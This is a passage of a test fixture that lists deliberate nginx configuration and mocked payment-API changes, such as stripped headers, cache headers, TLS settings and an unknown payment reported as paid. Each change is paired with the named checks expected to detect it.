    { conf: inServer('    proxy_set_header X-Whitelabel-Host other.example;') },
  ],
  [
    'another language is named to the platform',
    ['platform-answers'],
    { conf: inServer('    proxy_set_header Accept-Language fr;') },
  ],
  [
    'the access token does not reach the platform',
    ['platform-answers'],
    { conf: inServer('    proxy_set_header Authorization "";') },
  ],
  [
    'the Idempotency-Key does not reach the platform',
    ['platform-answers'],
    { conf: inServer('    proxy_set_header Idempotency-Key "";') },
  ],
  [
    'a CDN may keep pages for a day',
    ['acting-headers'],
    { conf: inServer('    add_header Surrogate-Control max-age=86400 always;') },
  ],
  [
    'a CDN may keep everything for a day',
    ['acting-headers'],
    { conf: inServer('    add_header CDN-Cache-Control max-age=86400 always;') },
  ],
  [
    'browsers are to talk to another host',
    ['acting-headers'],
    { conf: inServer('    add_header Alt-Svc \'h2="a.example:443"\' always;') },
  ],
  [
    'pictures of the operator are not to be shown',
    ['acting-headers'],
    { conf: inServer('    add_header Cross-Origin-Embedder-Policy require-corp always;') },
  ],
  [
    'search engines leave the portal out',
    ['acting-headers'],
    { conf: inServer('    add_header X-Robots-Tag noindex always;') },
  ],
  [
    'addresses count as one whatever their query',
    ['acting-headers'],
    { conf: inServer('    add_header No-Vary-Search params always;') },
  ],
  [
    'a trial is left out by search engines',
    [],
    { conf: inServer('    add_header X-Robots-Tag "noindex, nofollow" always;'), target: { isTrial: true } },
  ],
  [
    'servers on the way name themselves',
    [],
    {
      conf: inServer(
        '    add_header Via "1.1 cdn" always; add_header X-Cache MISS always; add_header CF-Ray 8a always; add_header X-Amz-Cf-Id a always; add_header Alt-Svc \'h3=":443"; ma=2592000\' always; add_header X-Request-Id 1 always;',
      ),
    },
  ],
  [
    'a header was named as harmless',
    [],
    { conf: inServer('    add_header Own-Header 1 always;'), target: { moreHeaders: ['own-header'] } },
  ],
  [
    'an unchanged page is to be kept for a day',
    ['page-cache'],
    {
      conf: swap([
        /map "\$status \$uri" \$portal_cache \{\n/,
        'map "$status $uri" $portal_cache {\n    "~^304 /(?!assets|services)" "max-age=86400";\n',
      ]),
    },
  ],
  [
    'the link of an activation mail loses its query',
    ['pages', 'released-pages'],
    {
      conf: before(
        '    location = /account/activate { if ($args) { return 302 /account/activate; } try_files /index.html =404; }',
      ),
    },
    'whole',
  ],
  [
    'the status of an unknown payment is an empty answer',
    ['payment-calls'],
    { platform: answering(/\/payments\/check-of-the-deployment$/, '{}') },
  ],
  [
    'an unknown payment counts as paid',
    ['payment-calls'],
    { platform: answering(/\/payments\/check-of-the-deployment$/, '{"status":"SUCCEED"}') },
  ],
  [
    'the status of an unknown payment is pending',
    [],
    { platform: answering(/\/payments\/check-of-the-deployment$/, '{"status":"PENDING"}') },
  ],
  ['no session of TLS is resumed', ['tls-sessions'], { conf: swap(['ssl_session_cache shared:portal:10m;', '']) }],
  [
    'early data are accepted',
    ['early-data'],
    { conf: swap(['ssl_protocols TLSv1.2 TLSv1.3;', 'ssl_protocols TLSv1.2 TLSv1.3; ssl_early_data on;']) },
  ],
];
